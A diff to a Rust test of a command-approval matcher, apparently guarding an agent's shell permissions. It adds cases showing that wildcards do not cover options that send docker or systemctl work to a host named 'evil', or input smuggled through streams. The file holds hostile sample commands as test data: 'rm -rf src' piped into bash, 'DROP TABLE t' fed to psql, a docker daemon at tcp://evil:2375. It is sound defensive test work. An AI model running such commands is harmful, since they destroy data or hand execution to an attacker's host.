@@ -253,7 +253,13 @@ fn an_approval_holds_for_the_call_that_it_says_and_no_other() {
         (
             "docker compose up *",
             &["docker compose up -d", "docker compose --profile dev up"],
-            &["docker compose -f /tmp/x.yml up", "docker compose down", "docker compose --project-directory /tmp/x up"],
+            &[
+                "docker compose -f /tmp/x.yml up",
+                "docker compose down",
+                "docker compose --project-directory /tmp/x up",
+                "docker -H tcp://evil:2375 compose up",
+                "docker --context evil compose up",
+            ],
         ),
         (
             "docker compose -f compose.yml up *",
@@ -270,7 +276,16 @@ fn an_approval_holds_for_the_call_that_it_says_and_no_other() {
             &["NODE_ENV=test npm test", "FORCE_COLOR=0 npm test"],
             &["NODE_ENV=production npm test", "NODE_OPTIONS=--require=./x npm test"],
         ),
+        // A `*` covers no option that names where the work is done.
+        ("docker build *", &["docker build -t a ."], &["docker -H tcp://evil:2375 build .", "docker -c evil build ."]),
+        (
+            "docker -H tcp://ci:2375 build *",
+            &["docker -H tcp://ci:2375 build ."],
+            &["docker -H tcp://evil:2375 build ."],
+        ),
+        ("systemctl status *", &["systemctl status nginx"], &["systemctl -H evil status nginx"]),
         // What a stream says is none of the words of a pattern.
+        ("psql app", &["psql app"], &["psql app <<< 'DROP TABLE t'", "psql app < x"]),
         ("bash", &["bash"], &["bash <<< 'rm -rf src'", "echo 'rm -rf src' | bash", "bash < x", "bash -c 'rm -rf src'"]),
         ("xargs rm", &[], &["xargs rm", "ls | xargs rm", "xargs rm < files"]),
         ("sh -c", &[], &["sh -c 'rm -rf src'", "sh -c rm"]),
